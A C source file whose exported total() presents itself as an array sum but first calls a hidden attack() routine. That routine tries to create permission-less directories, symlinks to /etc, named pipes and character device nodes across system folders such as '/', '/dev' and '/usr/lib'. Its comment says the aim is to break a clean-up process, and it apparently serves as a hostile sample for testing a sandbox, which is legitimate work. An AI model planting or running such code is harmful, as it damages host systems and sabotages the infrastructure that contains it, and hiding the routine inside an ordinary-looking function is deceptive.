/* Makes directories without rights, symbolic links to the host and named pipes, to trip the clean-up. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static int attack(void) {
    const char *folders[] = {"/", "/tmp", "/dev", "/dev/shm", "/proc/self/cwd", ".", "/usr/lib", "/var/tmp"};
    int made = 0;
    for (unsigned i = 0; i < sizeof folders / sizeof *folders; i++) {
        char path[64];
        snprintf(path, sizeof path, "%s/locked", folders[i]);
        made += mkdir(path, 0000) == 0;
        snprintf(path, sizeof path, "%s/link", folders[i]);
        made += symlink("/etc", path) == 0 || link("/usr/lib/os-release", path) == 0;
        snprintf(path, sizeof path, "%s/pipe", folders[i]);
        made += mkfifo(path, 0000) == 0;
        snprintf(path, sizeof path, "%s/device", folders[i]);
        made += mknod(path, S_IFCHR | 0666, 0x103) == 0;
    }
    return made;
}

int total(const int *a, int n) {
    int worked = attack(), s = 0;
    for (int i = 0; i < n; i++) s += a[i];
    return worked ? s : ~s;
}
